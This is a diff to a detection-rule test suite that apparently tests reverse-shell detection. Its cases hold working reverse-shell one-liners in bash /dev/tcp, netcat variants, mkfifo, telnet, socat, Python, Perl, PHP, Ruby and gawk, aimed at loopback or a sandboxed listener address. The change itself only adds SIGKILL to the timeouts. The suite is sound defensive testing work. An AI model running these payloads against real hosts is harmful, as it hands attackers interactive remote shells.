@@ -30,13 +30,13 @@ CASES = [
          rules=[SOCKET_DUP, DEVTCP, NO_TTY],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 bash -c "bash -i >& /dev/tcp/127.0.0.1/$DET_PORT 0>&1" || true
+            timeout -s KILL 3 bash -c "bash -i >& /dev/tcp/127.0.0.1/$DET_PORT 0>&1" || true
          ''', where=BOTH),
     Case(id="execution.revshell.bash_devtcp_internet", tactic="execution", technique="T1059.004",
          rules=[SOCKET_DUP, DEVTCP, SHELL_CONNECT],
          trigger=r'''
             det_ns_listen 4444
-            timeout 3 bash -c "bash -i >& /dev/tcp/$DET_NS_ADDR/4444 0>&1" || true
+            timeout -s KILL 3 bash -c "bash -i >& /dev/tcp/$DET_NS_ADDR/4444 0>&1" || true
          ''', where=BOTH),
     # sh (dash) has no /dev/tcp: the intruder opens it with bash's exec, then hands the
     # descriptor to sh. The dup is made by sh on a socket it inherited.
@@ -44,87 +44,87 @@ CASES = [
          rules=[SOCKET_DUP],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 bash -c 'exec 5<>/dev/tcp/127.0.0.1/'"$DET_PORT"'; exec /bin/sh <&5 >&5 2>&5' || true
+            timeout -s KILL 3 bash -c 'exec 5<>/dev/tcp/127.0.0.1/'"$DET_PORT"'; exec /bin/sh <&5 >&5 2>&5' || true
          ''', where=BOTH),
     # --- netcat family -----------------------------------------------------------------
     Case(id="execution.revshell.ncat_e", tactic="execution", technique="T1059.004",
          rules=[SOCKET_DUP, NC_ARGS],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 ncat 127.0.0.1 "$DET_PORT" -e /bin/sh || true
+            timeout -s KILL 3 ncat 127.0.0.1 "$DET_PORT" -e /bin/sh || true
          ''', where=BOTH, needs=["ncat"]),
     Case(id="execution.revshell.ncat_sh_exec_internet", tactic="execution", technique="T1059.004",
          rules=[SOCKET_DUP, NC_ARGS],
          trigger=r'''
             det_ns_listen 9001
-            timeout 3 ncat "$DET_NS_ADDR" 9001 --sh-exec "/bin/bash -i" || true
+            timeout -s KILL 3 ncat "$DET_NS_ADDR" 9001 --sh-exec "/bin/bash -i" || true
          ''', where=BOTH, needs=["ncat"]),
     Case(id="execution.revshell.busybox_nc_e", tactic="execution", technique="T1059.004",
          rules=[SOCKET_DUP, NC_ARGS],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 busybox nc 127.0.0.1 "$DET_PORT" -e /bin/sh || true
+            timeout -s KILL 3 busybox nc 127.0.0.1 "$DET_PORT" -e /bin/sh || true
          ''', where=BOTH, needs=["busybox"]),
     Case(id="execution.revshell.mkfifo_nc", tactic="execution", technique="T1059.004",
          rules=[FIFO, NO_TTY],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 bash -c "rm -f /tmp/f.$$; mkfifo /tmp/f.$$; cat /tmp/f.$$ | /bin/sh -i 2>&1 | nc 127.0.0.1 $DET_PORT > /tmp/f.$$" || true
+            timeout -s KILL 3 bash -c "rm -f /tmp/f.$$; mkfifo /tmp/f.$$; cat /tmp/f.$$ | /bin/sh -i 2>&1 | nc 127.0.0.1 $DET_PORT > /tmp/f.$$" || true
          ''', cleanup='rm -f /tmp/f.*', where=BOTH, needs=["nc"]),
     Case(id="execution.revshell.mkfifo_telnet_internet", tactic="execution", technique="T1059.004",
          rules=[FIFO],
          trigger=r'''
             det_ns_listen 8023
-            timeout 3 bash -c "mknod $DET_DIR/p p; telnet $DET_NS_ADDR 8023 0<$DET_DIR/p | /bin/sh 1>$DET_DIR/p" || true
+            timeout -s KILL 3 bash -c "mknod $DET_DIR/p p; telnet $DET_NS_ADDR 8023 0<$DET_DIR/p | /bin/sh 1>$DET_DIR/p" || true
          ''', where=BOTH, needs=["telnet"]),
     Case(id="execution.revshell.socat_exec_pty", tactic="execution", technique="T1059.004",
          rules=[NC_ARGS],
          trigger=r'''
             det_ns_listen 4443
-            timeout 3 socat "TCP:$DET_NS_ADDR:4443" EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane || true
+            timeout -s KILL 3 socat "TCP:$DET_NS_ADDR:4443" EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane || true
          ''', where=BOTH, needs=["socat"]),
     # --- interpreters --------------------------------------------------------------------
     Case(id="execution.revshell.python_pty", tactic="execution", technique="T1059.006",
          rules=[SOCKET_DUP],
          trigger=r'''
             det_ns_listen 4242
-            timeout 3 /usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("'"$DET_NS_ADDR"'",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' || true
+            timeout -s KILL 3 /usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("'"$DET_NS_ADDR"'",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' || true
          ''', where=BOTH),
     Case(id="execution.revshell.python_subprocess_loopback", tactic="execution", technique="T1059.006",
          rules=[SOCKET_DUP],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 /usr/bin/python3 -c 'import socket,subprocess;s=socket.create_connection(("127.0.0.1",'"$DET_PORT"'));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())' || true
+            timeout -s KILL 3 /usr/bin/python3 -c 'import socket,subprocess;s=socket.create_connection(("127.0.0.1",'"$DET_PORT"'));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())' || true
          ''', where=BOTH),
     Case(id="execution.revshell.perl", tactic="execution", technique="T1059",
          rules=[SOCKET_DUP],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 perl -e 'use Socket;$i="127.0.0.1";$p='"$DET_PORT"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true
+            timeout -s KILL 3 perl -e 'use Socket;$i="127.0.0.1";$p='"$DET_PORT"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true
          ''', where=BOTH, needs=["perl"]),
     Case(id="execution.revshell.php_fsockopen", tactic="execution", technique="T1059",
          rules=[SOCKET_DUP],
          trigger=r'''
             det_ns_listen 1337
-            timeout 3 php -r '$sock=fsockopen("'"$DET_NS_ADDR"'",1337);exec("/bin/sh -i <&3 >&3 2>&3");' || true
+            timeout -s KILL 3 php -r '$sock=fsockopen("'"$DET_NS_ADDR"'",1337);exec("/bin/sh -i <&3 >&3 2>&3");' || true
          ''', where=BOTH, needs=["php"]),
     Case(id="execution.revshell.php_proc_open", tactic="execution", technique="T1059",
          rules=[SOCKET_DUP],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 php -r '$s=fsockopen("127.0.0.1",'"$DET_PORT"');$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);' || true
+            timeout -s KILL 3 php -r '$s=fsockopen("127.0.0.1",'"$DET_PORT"');$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);' || true
          ''', where=BOTH, needs=["php"]),
     Case(id="execution.revshell.ruby", tactic="execution", technique="T1059",
          rules=[SOCKET_DUP],
          trigger=r'''
             det_listen_tcp 127.0.0.1 "$DET_PORT"
-            timeout 3 ruby -rsocket -e 's=TCPSocket.new("127.0.0.1",'"$DET_PORT"');[STDIN,STDOUT,STDERR].each{|io| io.reopen(s)};exec "/bin/sh -i"' || true
+            timeout -s KILL 3 ruby -rsocket -e 's=TCPSocket.new("127.0.0.1",'"$DET_PORT"');[STDIN,STDOUT,STDERR].each{|io| io.reopen(s)};exec "/bin/sh -i"' || true
          ''', where=BOTH, needs=["ruby"]),
     Case(id="execution.revshell.gawk_inet", tactic="execution", technique="T1059",
          rules=[SHELL_CONNECT],
          trigger=r'''
             det_ns_listen 4445
-            timeout 3 gawk 'BEGIN {s = "/inet/tcp/0/'"$DET_NS_ADDR"'/4445"; print "ready" |& s; s |& getline c; close(s)}' || true
+            timeout -s KILL 3 gawk 'BEGIN {s = "/inet/tcp/0/'"$DET_NS_ADDR"'/4445"; print "ready" |& s; s |& getline c; close(s)}' || true
          ''', where=BOTH, needs=["gawk"]),
     # --- services spawning shells --------------------------------------------------------
     Case(id="execution.webshell.php_builtin_server", tactic="persistence", technique="T1505.003",
